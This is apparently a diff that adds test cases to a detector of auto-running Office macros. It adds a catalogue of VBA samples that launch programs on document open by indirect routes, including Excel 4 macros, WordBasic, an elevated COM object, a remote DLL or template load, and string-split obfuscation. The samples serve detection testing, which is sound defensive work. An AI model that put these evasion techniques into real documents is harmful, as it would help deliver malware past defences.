@@ -43,6 +43,75 @@ var evasions = map[string]string{
 	"procedure named Access": "Sub AutoOpen()\nCall Access\nEnd Sub\nSub Access()\nShell \"calc.exe\"\nEnd Sub",
 }
 
+// roundabout are uses of an ability that look like ordinary work, or have another name than usual.
+var roundabout = map[string]string{
+	"function worked out as a formula":   "Sub Auto_Open()\nApplication.Evaluate \"Go()\"\nEnd Sub\nFunction Go()\nShell \"calc.exe\"\nEnd Function",
+	"function in a cell":                 "Sub Auto_Open()\nRange(\"A1\").Value = \"=IF(TRUE,Go(),0)\"\nEnd Sub\nFunction Go()\nShell \"calc.exe\"\nEnd Function",
+	"function as an Excel 4 expression":  "Sub Auto_Open()\nExecuteExcel4Macro \"Go()\"\nEnd Sub\nFunction Go()\nShell \"calc.exe\"\nEnd Function",
+	"function that is always calculated": "Function Go()\nApplication.Volatile\nShell \"calc.exe\"\nEnd Function",
+	"menu that code presses":             "Sub AutoOpen()\nWith CommandBars.Add.Controls.Add\n.OnAction = \"Go\"\n.Execute\nEnd With\nEnd Sub\nSub Go()\nShell \"calc.exe\"\nEnd Sub",
+	"WordBasic":                          "Sub AutoOpen()\nWordBasic.Shell \"calc.exe\"\nEnd Sub",
+	"WordBasic with With":                "Sub AutoOpen()\nWith WordBasic\n.Shell \"calc.exe\"\nEnd With\nEnd Sub",
+	"ToolsMacro":                         "Sub AutoOpen()\nWordBasic.ToolsMacro Name:=\"Go\", Run:=1\nEnd Sub\nSub Go()\nShell \"calc.exe\"\nEnd Sub",
+	"workbook with macros opened":        "Sub Auto_Open()\nWorkbooks.Open \"https://example.test/a.xlsm\"\nEnd Sub",
+	"template opened":                    "Sub AutoOpen()\nDocuments.Add Template:=\"http://example.test/a.dotm\"\nEnd Sub",
+	"script of a page":                   "Sub AutoOpen()\nCreateObject(\"htmlfile\").parentWindow.execScript s, \"JScript\"\nEnd Sub",
+	"script written to a page":           "Sub AutoOpen()\nCreateObject(\"htmlfile\").write \"<script>new ActiveXObject('x')</script>\"\nEnd Sub",
+	"style sheet with a script":          "Sub AutoOpen()\nSet d = CreateObject(\"MSXML2.DOMDocument\")\nd.transformNode x\nEnd Sub",
+	"elevated object":                    "Sub AutoOpen()\nGetObject(\"Elevation:Administrator!new:{9BA05972-F6A8-11CF-A442-00A0C90A8F39}\").Item.Open\nEnd Sub",
+	"class object":                       "Sub AutoOpen()\nGetObject(\"clsid:9BA05972-F6A8-11CF-A442-00A0C90A8F39\").Item.Open\nEnd Sub",
+	"Shell32":                            "Sub AutoOpen()\nDim s As New Shell32.Shell\ns.Open \"calc.exe\"\nEnd Sub",
+	"Option Base":                        "Option Base 1\nSub AutoOpen()\nCreateObject(Array(\"WScri\" & \"pt.Shell\", \"Scripting.Dictionary\")(1)).Run \"calc.exe\"\nEnd Sub",
+	"Option Compare":                     "Option Compare Text\nSub AutoOpen()\nx = \"Scripting.Dictionary\"\nIf \"A\" = \"a\" Then x = \"WScript.Shell\"\nCreateObject(x).Run \"calc.exe\"\nEnd Sub",
+	"declared twice":                     "Private Declare Function F Lib \"shell32\" Alias \"ShellExecuteA\" (ByVal x As Long) As Long\nSub AutoOpen()\nF 0, \"open\", \"calc.exe\"\nEnd Sub\n--- Module2\nPrivate Declare Function F Lib \"user32\" Alias \"MessageBoxA\" (ByVal x As Long) As Long",
+	"library with a trusted name":        "Private Declare Function F Lib \"C:\\Users\\Public\\user32.dll\" (ByVal x As Long) As Long\nSub AutoOpen()\nF 0\nEnd Sub",
+	"library loaded from elsewhere":      "Private Declare Function LoadLibraryA Lib \"kernel32\" (ByVal x As String) As Long\nSub AutoOpen()\nLoadLibraryA \"\\\\example.test\\a\\x.dll\"\nEnd Sub",
+	"argument of With":                   "Sub Auto_Open()\nWith Range(\"A1\")\nShell .Text\nEnd With\nEnd Sub",
+	"Excel 4 sheet added":                "Sub Auto_Open()\nSheets.Add Type:=xlExcel4MacroSheet\nEnd Sub",
+	"hyperlink followed":                 "Sub AutoOpen()\nActiveDocument.Hyperlinks(1).Follow\nEnd Sub",
+	"object activated":                   "Sub Auto_Open()\nSheets(1).OLEObjects(1).Verb 1\nEnd Sub",
+	"work with the sheet":                "Private Sub Worksheet_SelectionChange(ByVal Target As Range)\nShell \"calc.exe\"\nEnd Sub",
+	"records saved as a script":          "Sub AutoOpen()\nCreateObject(\"ADODB.Recordset\").Save \"c:\\users\\public\\a.vbs\"\nEnd Sub",
+}
+
+func TestRoundaboutUsesAreUses(t *testing.T) {
+	for name, source := range roundabout {
+		if r := judged(t, project(source)); !r.Suspicious || len(r.Autoexec) == 0 {
+			t.Errorf("%s: %+v", name, r)
+		}
+	}
+}
+
+func TestEventsOfControlsOnTheDocumentStartUnlessAPersonActs(t *testing.T) {
+	for event, want := range map[string]bool{"GetDayBold": true, "StateChanged": false, "Click": false, "KeyDown": false, "Started": true} {
+		p := one("Private Sub MonthView1_" + event + "()\nShell \"calc.exe\"\nEnd Sub\n")
+		p.Controls = []string{"MonthView1"}
+		if r := judged(t, p); r.Suspicious != want {
+			t.Errorf("%s: %+v", event, r)
+		}
+	}
+}
+
+// harmless are near the roundabout uses.
+var harmless = map[string]string{
+	"spreadsheet opened":  "Sub Auto_Open()\nWorkbooks.Open \"https://example.test/prices.xlsx\"\nEnd Sub",
+	"query of the web":    "Sub Auto_Open()\nActiveSheet.QueryTables.Add \"URL;https://example.test/prices\", Range(\"A1\")\nEnd Sub",
+	"settings loaded":     "Sub Auto_Open()\nCreateObject(\"MSXML2.DOMDocument\").Load \"https://example.test/settings.xml\"\nEnd Sub",
+	"menu":                "Sub Auto_Open()\nWith CommandBars.Add.Controls.Add\n.OnAction = \"Go\"\nEnd With\ncn.Query\nEnd Sub\nSub Go()\nShell \"calc.exe\"\nEnd Sub",
+	"formula":             "Sub Auto_Open()\nRange(\"A1\").Formula = \"=SUM(Twice(A2))\"\nEnd Sub\nFunction Twice(x)\nTwice = 2 * x\nEnd Function",
+	"saved":               "Sub Auto_Open()\nActiveWorkbook.Save\nEnd Sub",
+	"directory service":   "Sub Auto_Open()\nSet o = GetObject(\"LDAP://rootDSE\")\nEnd Sub",
+	"library of the book": "Private Declare Function LoadLibraryA Lib \"kernel32\" (ByVal x As String) As Long\nSub Auto_Open()\nLoadLibraryA ThisWorkbook.Path & \"\\solver.dll\"\nEnd Sub",
+}
+
+func TestOrdinaryUsesAreHarmless(t *testing.T) {
+	for name, source := range harmless {
+		if r := judged(t, project(source)); r.Suspicious {
+			t.Errorf("%s: %+v", name, r)
+		}
+	}
+}
+
 func TestLanguageDoesNotHideWhatStartsByItself(t *testing.T) {
 	for name, source := range evasions {
 		if r := judged(t, project(source)); !r.Suspicious || len(r.Autoexec) == 0 {
